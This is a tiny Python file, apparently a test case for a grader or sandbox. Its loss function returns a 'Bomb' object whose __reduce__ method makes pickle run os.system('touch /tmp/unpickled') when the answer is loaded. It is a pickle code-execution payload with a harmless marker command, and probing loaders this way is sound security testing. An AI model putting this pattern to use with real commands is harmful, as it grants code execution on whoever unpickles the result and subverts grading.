# base: nothing
# about: answers with an object that runs code when it is unpickled
# covers: pickles and objects
import os


class Bomb:
    def __reduce__(self):
        return (os.system, ("touch /tmp/unpickled",))


def loss(target_y, predicted_y):
    return Bomb()
